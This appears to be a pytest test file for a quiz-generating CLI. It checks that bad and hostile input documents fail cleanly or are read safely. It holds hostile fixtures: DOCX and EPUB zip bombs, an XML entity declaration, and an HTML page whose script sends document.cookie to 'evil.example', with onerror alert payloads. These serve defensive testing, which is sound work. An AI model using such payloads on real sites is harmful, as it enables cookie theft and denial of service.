"""Bad and hostile documents through the CLI: one line on stderr, exit 1 (an input problem), nothing
written, never a traceback or exit 70; a large PDF works in bounded memory; hostile content never
runs or inflates. (docs/input-and-errors.md lists these cases.)"""

from __future__ import annotations

import os
import sys
import time

import pytest

from docmaker import add_zip_member, edit_zip, encrypt_pdf, make_docx, make_epub, make_pdf, make_zip
from test_bad_input import ENGLISH_LONG, FAKE_MODEL_RUN, GOOD, fails, leftovers, quiz_of, run, warnings_of

PAGES = [["Fidel Castro released 200 prisoners in Havana in 1998."], ["Pope Francis visited Cuba in 2015."]]


def _fails_cleanly(tmp_path, capsys, name: str, data: bytes) -> str:
    (tmp_path / name).write_bytes(data)
    line = fails(capsys, 1, "generate", tmp_path / name, "--json", tmp_path / "q.json", "--anki", tmp_path / "q.apkg")
    assert line.startswith(f"quizgen: {tmp_path / name}: ")
    assert not (tmp_path / "q.json").exists() and not (tmp_path / "q.apkg").exists()
    assert leftovers(tmp_path) == []
    return line[len(f"quizgen: {tmp_path / name}: "):]


def test_encrypted_pdf(tmp_path, capsys):
    reason = _fails_cleanly(tmp_path, capsys, "secret.pdf", encrypt_pdf(make_pdf(PAGES)))
    assert reason == "encrypted PDF (it needs a password); save a copy without the password and read that"


def test_scanned_pdf_without_a_text_layer(tmp_path, capsys):
    reason = _fails_cleanly(tmp_path, capsys, "scan.pdf", make_pdf(PAGES, image_only=True))
    assert reason.startswith("no text layer: run OCR first")


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.9])
def test_truncated_pdf(tmp_path, capsys, cut):
    data = make_pdf(PAGES)
    (tmp_path / "cut.pdf").write_bytes(data[: int(len(data) * cut)])
    rc, _, err = run(capsys, "generate", tmp_path / "cut.pdf", "--json", tmp_path / "q.json")
    assert rc in (0, 1) and "Traceback" not in err and "internal error" not in err, err
    if rc == 1:  # pypdf may recover a truncated file's text; if it cannot, one line
        assert len(err.strip().splitlines()) == 1 and not (tmp_path / "q.json").exists()


def test_pdf_without_pages(tmp_path, capsys):
    assert _fails_cleanly(tmp_path, capsys, "empty.pdf", make_pdf([])) == "PDF has no pages"


def test_corrupt_pdf(tmp_path, capsys):
    reason = _fails_cleanly(tmp_path, capsys, "bad.pdf", b"%PDF-1.7\n" + os.urandom(2000))
    assert reason.startswith("corrupt or truncated PDF (")


@pytest.mark.parametrize("name, data", [
    ("cut.docx", make_docx([("Normal", GOOD)])[:3000]),
    ("cut.epub", make_epub([("One", f"<p>{GOOD}</p>")])[:1500]),
])
def test_truncated_docx_and_epub(tmp_path, capsys, name, data):
    assert "corrupt or truncated" in _fails_cleanly(tmp_path, capsys, name, data)


def test_docx_that_is_a_zip_of_something_else(tmp_path, capsys):
    data = make_zip({"photos/a.jpg": b"\xff\xd8\xff", "readme.txt": b"Holiday photos"})
    assert _fails_cleanly(tmp_path, capsys, "report.docx", data) == "a zip archive, but not a Word document (no word/document.xml)"


def test_docx_with_a_broken_document_part(tmp_path, capsys):
    data = make_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document"})
    assert _fails_cleanly(tmp_path, capsys, "broken.docx", data).startswith("corrupt or truncated Word document (")


def _encryption_xml(algorithm: str, uri: str) -> bytes:
    """A META-INF/encryption.xml that encrypts ``uri`` with ``algorithm``."""
    return (b'<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
            b'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
            + f'<enc:EncryptionMethod Algorithm="{algorithm}"/>'.encode()
            + f'<enc:CipherData><enc:CipherReference URI="{uri}"/></enc:CipherData>'.encode()
            + b"</enc:EncryptedData></encryption>")


def test_epub_with_drm(tmp_path, capsys):
    encryption = _encryption_xml("http://www.w3.org/2001/04/xmlenc#aes128-cbc", "EPUB/chapter1.xhtml")
    data = add_zip_member(make_epub([("One", f"<p>{GOOD}</p>")]), "META-INF/encryption.xml", encryption)
    reason = _fails_cleanly(tmp_path, capsys, "locked.epub", data)
    assert reason == "the EPUB is DRM-protected (META-INF/encryption.xml encrypts EPUB/chapter1.xhtml); quizgen cannot read it"


def test_epub_with_obfuscated_fonts_only_is_read(tmp_path, capsys):
    encryption = _encryption_xml("http://www.idpf.org/2008/embedding", "EPUB/fonts/a.otf")
    data = add_zip_member(make_epub([("One", f"<p>{GOOD}</p>")]), "META-INF/encryption.xml", encryption)
    (tmp_path / "fonts.epub").write_bytes(data)
    rc, _, err = run(capsys, "generate", tmp_path / "fonts.epub", "--json", tmp_path / "q.json", "-q")
    assert rc == 0, err
    assert quiz_of(tmp_path / "q.json").questions


@pytest.mark.parametrize("changes, why", [
    ({"META-INF/container.xml": None}, "no META-INF/container.xml"),
    ({"META-INF/container.xml": b"<container><rootfiles></rootfiles></container>"},
     "META-INF/container.xml names no package file"),
    ({"EPUB/content.opf": None}, "no EPUB/content.opf"),
    ({"EPUB/content.opf": b"<package><manifest></package>"}, "EPUB/content.opf cannot be read as XML: mismatched tag"),
    ({"EPUB/content.opf": b'<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa">]><package>&a;&a;&a;&a;</package>'},
     "EPUB/content.opf cannot be read as XML: it declares XML entities, which an EPUB never needs)"),
    ({"EPUB/content.opf": b"<package><manifest/></package>"}, "EPUB/content.opf has no spine"),
])
def test_epub_with_a_broken_structure(tmp_path, capsys, changes, why):
    data = edit_zip(make_epub([("One", f"<p>{GOOD}</p>")]), changes)
    reason = _fails_cleanly(tmp_path, capsys, "broken.epub", data)
    assert reason.startswith(f"corrupt or truncated EPUB ({why}")


def test_web_page_that_is_all_navigation(tmp_path, capsys):
    links = "".join(f'<li><a href="/p{i}">Section {i} of the site</a></li>' for i in range(40))
    page = f"<html><body><div class='menu'><ul>{links}</ul></div><p>Hi.</p></body></html>"
    reason = _fails_cleanly(tmp_path, capsys, "menu.html", page.encode())
    assert reason.startswith("web page has no main text, only navigation and links")


def test_a_zip_that_is_not_a_document(tmp_path, capsys):
    reason = _fails_cleanly(tmp_path, capsys, "archive.zip", make_zip({"a.txt": b"hello"}))
    assert reason == "a zip archive, but not a Word document or an EPUB"


def test_a_named_pdf_that_is_not_a_pdf(tmp_path, capsys):
    assert _fails_cleanly(tmp_path, capsys, "notes.pdf", GOOD.encode()).startswith("not a PDF")


def test_bad_documents_in_a_folder_are_skipped_with_a_warning_each(tmp_path, capsys):
    d = tmp_path / "course"
    d.mkdir()
    (d / "a.txt").write_text(GOOD)
    (d / "b.pdf").write_bytes(encrypt_pdf(make_pdf(PAGES)))
    (d / "c.pdf").write_bytes(make_pdf(PAGES, image_only=True))
    (d / "d.docx").write_bytes(make_zip({"x.txt": b"x"}))
    rc, _, err = run(capsys, "generate", d, "--json", tmp_path / "q.json", "-q")
    assert rc == 0, err
    assert [w.split(": ", 3)[3][:20] for w in warnings_of(err)] == [
        "encrypted PDF (it ne", "no text layer: run O", "a zip archive, but n"]
    assert [s.id for s in quiz_of(tmp_path / "q.json").sources] == ["a"]


# -- hostile documents ------------------------------------------------------------------------


def test_a_docx_with_a_zip_bomb_image_is_read_without_inflating_it(tmp_path, capsys):
    bomb = b"\0" * (300 * 1024 * 1024)  # 300 MB of zeros: about 300 kB compressed
    data = make_docx([("Normal", GOOD)], image=bomb)
    del bomb
    assert len(data) < 2_000_000
    (tmp_path / "bomb.docx").write_bytes(data)
    started = time.perf_counter()
    rc, _, err = run(capsys, "generate", tmp_path / "bomb.docx", "--json", tmp_path / "q.json", "-q")
    assert rc == 0, err
    assert time.perf_counter() - started < 10  # inflating 300 MB would take longer, and the memory
    assert quiz_of(tmp_path / "q.json").sources[0].text.startswith("Fidel Castro released 200 prisoners")


def test_an_epub_with_a_zip_bomb_image_is_read_without_inflating_it(tmp_path, capsys):
    data = add_zip_member(make_epub([("One", f"<p>{GOOD}</p>")]), "EPUB/images/big.png", b"\0" * (300 * 1024 * 1024))
    assert len(data) < 2_000_000
    (tmp_path / "bomb.epub").write_bytes(data)
    started = time.perf_counter()
    rc, _, err = run(capsys, "generate", tmp_path / "bomb.epub", "--json", tmp_path / "q.json", "-q")
    assert rc == 0, err
    assert time.perf_counter() - started < 10
    assert "Fidel Castro released 200 prisoners" in quiz_of(tmp_path / "q.json").sources[0].text


def test_an_epub_whose_spine_points_at_a_zip_bomb_never_inflates_it(tmp_path, capsys):
    """A spine entry that claims to be XHTML but is not a markup file is skipped, never unpacked."""
    import io
    import zipfile

    data = make_epub([("One", f"<p>{GOOD}</p>")])
    opf = zipfile.ZipFile(io.BytesIO(data)).read("EPUB/content.opf").decode()
    opf = opf.replace("</manifest>", '<item href="big.png" id="big" media-type="application/xhtml+xml"/></manifest>')
    opf = opf.replace("</spine>", '<itemref idref="big"/></spine>')
    data = edit_zip(data, {"EPUB/content.opf": opf.encode(), "EPUB/big.png": b"\0" * (300 * 1024 * 1024)})
    assert len(data) < 2_000_000
    (tmp_path / "bomb.epub").write_bytes(data)
    started = time.perf_counter()
    rc, _, err = run(capsys, "generate", tmp_path / "bomb.epub", "--json", tmp_path / "q.json")
    assert rc == 0, err
    assert time.perf_counter() - started < 10
    assert "the EPUB's chapter EPUB/big.png is not an XHTML file; skipped" in err


def test_an_epub_whose_markup_would_inflate_too_far_is_refused(tmp_path, capsys, monkeypatch):
    from quizgen.read import zipped

    monkeypatch.setattr(zipped, "MAX_MARKUP_BYTES", 10_000)
    data = make_epub([("One", f"<p>{GOOD}</p>" * 200)])
    reason = _fails_cleanly(tmp_path, capsys, "big.epub", data)
    assert reason.startswith("EPUB would unpack to ") and reason.endswith("; not read")


def test_a_docx_whose_markup_would_inflate_too_far_is_refused(tmp_path, capsys, monkeypatch):
    from quizgen.read import zipped

    monkeypatch.setattr(zipped, "MAX_MARKUP_BYTES", 10_000)
    data = make_docx([("Normal", GOOD * 200)])
    reason = _fails_cleanly(tmp_path, capsys, "big.docx", data)
    assert reason.startswith("Word document would unpack to ") and reason.endswith("; not read")


def test_scripts_in_a_web_page_never_become_text(tmp_path, capsys):
    page = ("<html><head><script>fetch('http://evil.example/?'+document.cookie)</script></head><body>"
            "<p onclick=\"alert(1)\">Fidel Castro released 200 prisoners in Havana in 1998.</p>"
            "<img src=x onerror=alert(2)><template><p>Hidden 1999</p></template>"
            "<noscript>Enable JavaScript 2000</noscript></body></html>")
    (tmp_path / "page.html").write_text(page)
    rc, _, err = run(capsys, "generate", tmp_path / "page.html", "--json", tmp_path / "q.json", "-q")
    assert rc == 0, err
    text = quiz_of(tmp_path / "q.json").sources[0].text
    assert text == "Fidel Castro released 200 prisoners in Havana in 1998."


# -- a large PDF ------------------------------------------------------------------------------


def large_pdf(pages: int = 300) -> bytes:
    """About ``pages`` pages of English prose, 40 lines a page, each page numbered at its foot."""
    words = " ".join(ENGLISH_LONG.split()).split(" ")
    out, k = [], 0
    for number in range(1, pages + 1):
        lines = []
        for _ in range(40):
            line = " ".join(words[k % len(words): k % len(words) + 11])
            k += 11
            lines.append(line)
        out.append(["Cuba prisoner release", *lines, str(number)])
    return make_pdf(out)


def test_a_300_page_pdf_works_in_bounded_memory_with_progress(tmp_path):
    """300 pages (about 830 kB of text): read page by page with the pages on the progress bar, then
    parsed in parts. The model is a tokenizer and sentence splitter, as in test_bad_input's 20 MB test."""
    from test_bad_input import _run_on_a_terminal

    (tmp_path / "big.pdf").write_bytes(large_pdf(300))
    env = {**os.environ, "QUIZGEN_TEST_RSS": str(tmp_path / "rss"), "COLUMNS": "120"}
    rc, err = _run_on_a_terminal([sys.executable, "-c", FAKE_MODEL_RUN, "generate", tmp_path / "big.pdf",
                                  "--json", tmp_path / "q.json", "--jobs", "1", "--no-cache"], env, timeout=300)
    assert rc == 0, err
    assert "Traceback" not in err and "page 300 of 300" in err or "of 300)" in err, err[-2000:]
    quiz = quiz_of(tmp_path / "q.json")
    assert [s.label for s in quiz.sources[0].sections][-1] == "p. 300"
    assert "Cuba prisoner release" not in quiz.sources[0].text  # the running header of every page
    peak_mb = int((tmp_path / "rss").read_text()) / 1024
    assert peak_mb < 450, f"peak memory {peak_mb:.0f} MB"


@pytest.mark.parametrize("name, data, reason", [
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an old Microsoft Office file (.doc, .xls or .ppt); "
     "save it as .docx or PDF and read that"),
    ("letter.rtf", b"{\\rtf1\\ansi Fidel Castro released 200 prisoners in 1998.}", "an RTF document; save it as .docx "
     "or PDF and read that"),
])
def test_formats_quizgen_does_not_read_say_what_to_do(tmp_path, capsys, name, data, reason):
    assert _fails_cleanly(tmp_path, capsys, name, data) == reason
